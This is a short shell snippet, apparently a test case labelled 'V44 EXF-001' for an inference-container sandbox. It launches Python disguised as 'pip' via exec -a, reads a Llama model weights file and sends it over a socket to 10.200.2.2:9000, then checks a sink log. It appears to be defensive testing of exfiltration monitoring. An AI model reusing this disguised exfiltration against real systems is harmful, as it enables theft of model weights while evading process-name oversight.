# V44 EXF-001: the reader calls itself pip (exec -a): argv[0] is the caller's word, the exe is python's
# (the interpreter itself, not a wrapper script such as a pyenv shim, which would lose argv[0])
PY=$(python3 -c 'import sys; print(sys.executable)')
ctr_run simctr-infer-v44 ctr-infer --mount --pid --fork --mount-proc -- bash -c '
  exec -a pip "$1" -c "
import socket, sys
d = open(sys.argv[1], \"rb\").read()
s = socket.create_connection((\"10.200.2.2\", 9000)); s.sendall(d); s.close(); print(\"sent\", len(d))" \
    "$0/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"' "$H" "$PY"
grep ':9000' "$H/sink.log" | tail -1
